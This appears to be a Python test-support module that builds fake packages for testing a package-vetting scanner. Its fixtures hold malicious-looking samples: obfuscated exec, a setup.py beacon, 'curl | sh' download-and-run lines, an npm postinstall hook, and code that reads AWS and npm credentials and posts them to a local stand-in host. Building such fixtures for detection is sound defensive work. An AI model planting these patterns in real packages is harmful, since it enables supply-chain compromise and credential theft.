"""Hand-made packages for vetting tests: real wheels, sdists, npm tarballs, crates and POMs built in memory,
some carrying malicious-looking code (never executed)."""

from __future__ import annotations

import io
from dataclasses import dataclass, field
from typing import Any

from tests.support.artifacts import sdist_bytes, wheel_bytes
from tests.support.cargo_crates import crate_bytes
from tests.support.npm_clients import pack_tarball

OBFUSCATED = "import base64, zlib\nX = 1\nexec(zlib.decompress(base64.b64decode(b'eJwrKMrMK1EwVEgsSlGwUlAy1DNUUrIGAD1VBLw=')))\n"
SETUP_NETWORK = ("from setuptools import setup\nimport urllib.request\n\n"
                 "urllib.request.urlopen('http://127.0.0.1:9/beacon?host=x')\nsetup(name='evil')\n")
DOWNLOAD_EXEC = "import os\n\nos.system('curl -s http://127.0.0.1:9/payload.sh | sh')\n"
EXFIL_PY = ("import os\nimport requests\n\n\ndef steal():\n    creds = open(os.path.expanduser('~/.aws/credentials')).read()\n"
            "    requests.post('http://127.0.0.1:9/collect', data=creds)\n")
EXFIL_JS = ("const https = require('https');\nconst fs = require('fs');\n"
            "const npmrc = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
            "const req = https.request({host: '127.0.0.1', port: 9, method: 'POST'});\nreq.write(npmrc);\nreq.end();\n")
BENIGN = "def add(a, b):\n    return a + b\n"


@dataclass
class FakeFile:
    """What analyzers read of a LiveFile."""

    filename: str
    data: bytes
    meta: dict[str, Any] = field(default_factory=dict)
    kind: str | None = None

    def open(self) -> io.BytesIO:
        return io.BytesIO(self.data)


def opener(f: FakeFile) -> io.BytesIO:
    return f.open()


def evil_wheel() -> FakeFile:
    data = wheel_bytes("evil-pkg", "1.0", module_code=OBFUSCATED,
                       extra_files={"evil_pkg/steal.py": EXFIL_PY.encode(), "evil_pkg/run.py": DOWNLOAD_EXEC.encode()})
    return FakeFile("evil_pkg-1.0-py3-none-any.whl", data)


def evil_sdist() -> FakeFile:
    return FakeFile("evil_pkg-1.0.tar.gz", sdist_bytes("evil-pkg", "1.0", extra_files={"setup.py": SETUP_NETWORK.encode()}))


def evil_npm() -> FakeFile:
    pkg = {"name": "evil-js", "version": "1.0.0", "license": "MIT",
           "scripts": {"postinstall": "curl -s http://127.0.0.1:9/x.sh | sh"}}
    return FakeFile("evil-js-1.0.0.tgz", pack_tarball(pkg, members=[("package/index.js", EXFIL_JS.encode())]))


def clean_wheel(name: str = "clean-pkg", version: str = "1.0", **kw: Any) -> FakeFile:
    return FakeFile(f"{name.replace('-', '_')}-{version}-py3-none-any.whl",
                    wheel_bytes(name, version, module_code=BENIGN, **kw))


def crate(license_line: str = 'license = "MIT OR Apache-2.0"') -> FakeFile:
    toml = f'[package]\nname = "demo"\nversion = "1.0.0"\nedition = "2021"\n{license_line}\n'
    return FakeFile("demo-1.0.0.crate", crate_bytes("demo", "1.0.0", toml=toml, files={"LICENSE-MIT": b"MIT"}))


def pom(licences: list[str]) -> FakeFile:
    body = "".join(f"<license><name>{n}</name></license>" for n in licences)
    xml = (f"<project><modelVersion>4.0.0</modelVersion><groupId>org.example</groupId><artifactId>demo</artifactId>"
           f"<version>1.0</version><licenses>{body}</licenses></project>")
    return FakeFile("demo-1.0.pom", xml.encode(), kind="pom")
